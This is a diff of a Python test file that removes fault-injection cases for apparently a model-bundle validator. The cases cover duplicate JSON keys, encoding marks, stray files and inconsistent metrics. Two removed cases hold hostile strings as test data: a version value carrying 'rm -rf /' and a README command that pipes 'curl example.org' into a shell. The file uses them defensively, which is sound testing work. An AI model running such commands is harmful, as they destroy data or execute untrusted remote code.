@@ -4,7 +4,6 @@ from __future__ import annotations
 
 import json
 import os
-from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
@@ -147,35 +146,6 @@ def reverse_labels(bundle: Path) -> None:
 def pipe(bundle: Path) -> None:
     (bundle / "README.md").unlink()
     os.mkfifo(bundle / "README.md")
-
-
-def twice(name: str, key: str, first: Any) -> Plant:
-    """A key stands in a JSON object a second time, before the right one."""
-    return replace(name, "{", f"{{{json.dumps(key)}: {json.dumps(first)}, ", 1)
-
-
-def bytes_of(name: str, change: Callable[[bytes], bytes]) -> Plant:
-    """Change a file's bytes."""
-    return lambda bundle: change_bytes(bundle / name, change)
-
-
-def change_bytes(path: Path, change: Callable[[bytes], bytes]) -> None:
-    path.write_bytes(change(path.read_bytes()))
-
-
-def in_utf_16(data: bytes) -> bytes:
-    return data.decode().encode("utf-16")
-
-
-def with_mark(data: bytes) -> bytes:
-    return b"\xef\xbb\xbf" + data
-
-
-def other_names(bundle: Path) -> None:
-    """Both labels exchanged in every file but the verdict, which knows what was counted."""
-    reverse_labels(bundle)
-    goldens(shift_labels)(bundle)
-    replace("README.md", "negative, positive", "positive, negative")(bundle)
 
 
 def repeated(name: str, /, **values: Any) -> Plant:
@@ -403,83 +373,5 @@ FAULTS: list[Fault] = [
             on_logits(helper.make_node("ReduceMax", ["old"], ["logits"], keepdims=0)),
             face(lambda graph: graph.output[0].type.tensor_type.ClearField("shape")),
         ),
-    ),
-    *faults(
-        "JSON that readers take for different things", NOT, "files",
-        labels_twice=twice(M, "labels", ["positive", "negative"]), length_twice=twice(M, "max_length", 99),
-        id_twice=replace(M, '"padding": {', '"padding": {"id": 3, '), text_for_a_number=put(M, "max_length", to="16"),
-        fraction_for_a_number=put(M, "max_length", to=16.0), number_for_a_truth=put(M, "pair", to=0),
-        text_for_a_truth=record("README.md", shipped="no"), text_for_bytes=put(M, "files", 0, "bytes", to="1"),
-        truth_for_the_schema=put(M, "schema", to=True), text_for_a_temperature=put(M, "temperature", to="1.5"),
-        mark=bytes_of(M, with_mark), two_documents=bytes_of(M, lambda data: data + data),
-    ),
-    *faults(
-        "JSON that readers take for different things", EVERYWHERE, "consistency",
-        verdict_twice=twice(V, "passed", False), config_twice=twice(C, "id2label", {"0": "x"}),
-        tokenizer_config_twice=twice(TC, "model_max_length", 512), text_in_the_verdict=put(V, "passed", to="true"),
-        mark_on_config=bytes_of(C, with_mark), mark_on_tokenizer_config=bytes_of(TC, with_mark),
-        config_in_utf_16=bytes_of(C, in_utf_16), tokenizer_config_in_utf_16=bytes_of(TC, in_utf_16),
-        nan_in_config=put(C, "hidden_size", to=float("nan")), fraction=put(C, "max_position_embeddings", to=16.0),
-    ),
-    *faults(
-        "JSON that readers take for different things", EVERYWHERE, "tokenizer",
-        tokenizer_twice=twice(T, "truncation", None), mark_on_tokenizer=bytes_of(T, with_mark),
-    ),
-    *faults(
-        "JSON that readers take for different things", EVERYWHERE, "goldens", golden_twice=twice(G, "text", "x"),
-    ),
-    *faults(
-        "further files that are recorded", EVERYWHERE, "files",
-        script=write("run.sh", b"x"), another_model=write("onnx/model.onnx", b"x"),
-        code=write("modeling.py", b"x"), more_tokens=write("added_tokens.json", b'{"x": 3}'),
-        other_tokens=write("special_tokens_map.json", b'{"unk_token": "[PAD]"}'),
-        pickle=write("pytorch_model.bin", b"x"),
-    ),
-    *faults(
-        "lengths, padding and configs", EVERYWHERE, "consistency",
-        foreign_code=put(C, "auto_map", to={"AutoModel": "someone/model--code.Model"}),
-        another_file=put(C, "transformers.js_config", "dtype", to="fp32"), no_layers=put(C, "num_hidden_layers", to=0),
-        layers_a_text=put(C, "num_hidden_layers", to="2"), quantized=put(C, "quantization_config", to={}),
-    ),
-    *faults(
-        "figures of manifest and card", EVERYWHERE, "consistency",
-        no_evaluation_data=put(M, "evaluation", to=None), version=put(M, "edgepack_version", to="0.1.0; rm -rf /"),
-        licence_on_the_card=replace("README.md", "license: ", "license: \"mit\"\nlicense: "),
-        command_on_the_card=replace("README.md", "edgepack predict .", "curl example.org | sh; edgepack predict ."),
-        check_on_the_card=replace("README.md", "| finite | passed", "| finite | failed"),
-        size_on_the_card_twice=replace("README.md", "- Shipped: ", "- Shipped: 1 byte.\n- Shipped: "),
-        metric_on_the_card_twice=replace("README.md", "| artifact |", "| artifact | x |\n| artifact |"),
-    ),
-    *faults(
-        "what lies behind the metric", EVERYWHERE, "consistency",
-        class_above_1=put(V, "analysis", "classes", 0, "artifact", to=1.7),
-        class_worse=put(V, "analysis", "classes", 0, "artifact", to=0.1),
-        class_of_more=put(V, "analysis", "classes", 0, "n", to=4000),
-        class_of_no_label=put(V, "analysis", "classes", 0, "label", to="x"),
-        no_classes=put(V, "analysis", "classes", to=[]),
-        slice_of_more=put(V, "analysis", "slices", 0, "n", to=10**6),
-        slice_above_1=put(V, "analysis", "slices", 0, "artifact", to=7.0),
-        slice_worse=put(V, "analysis", "slices", 0, "worse", to=True),
-        confusion=put(V, "analysis", "artifact_confusion", to=[[0, 1], [1, 0]]),
-        confusion_below_0=put(V, "analysis", "artifact_confusion", 0, 0, to=-1),
-        confused_labels=put(V, "analysis", "confusion_labels", to=["x", "y"]),
-        error_below_0=put(V, "analysis", "calibration", "scaled_ece", to=-0.5),
-        error_too_small=put(V, "analysis", "calibration", "artifact_ece", to=0.0),
-        confidence_above_1=put(V, "analysis", "calibration", "artifact_confidence", to=3.0),
-        log_loss_below_0=put(V, "analysis", "calibration", "scaled_log_loss", to=-3.0),
-        agreement=put(V, "agreement", to=0.5), labels_exchanged_everywhere_else=other_names,
-        blame=put(V, "blame", to="export"), measured_as_no_target=put(V, "measured_as", to="x"),
-        measured_in_another_runtime=put(V, "measured_as", to="android-torchscript"),
-    ),
-    *faults(
-        "what lies behind the metric", EVERYWHERE, "retention",
-        margin=put(V, "analysis", "noninferiority", "margin", to=0.9),
-        examples=put(V, "analysis", "noninferiority", "n", to=7),
-        discordant=put(V, "analysis", "noninferiority", "discordant", to=7),
-        lower=put(V, "analysis", "noninferiority", "lower", to=0.99),
-    ),
-    *faults(
-        "goldens", EVERYWHERE, "goldens", one_text_for_all=goldens(lambda lines: lines[:1] * 32 + lines[32:]),
-        list_of_labels=goldens(lambda lines: [line | {"label": [line["label"]]} for line in lines]),
     ),
 ]  # fmt: skip
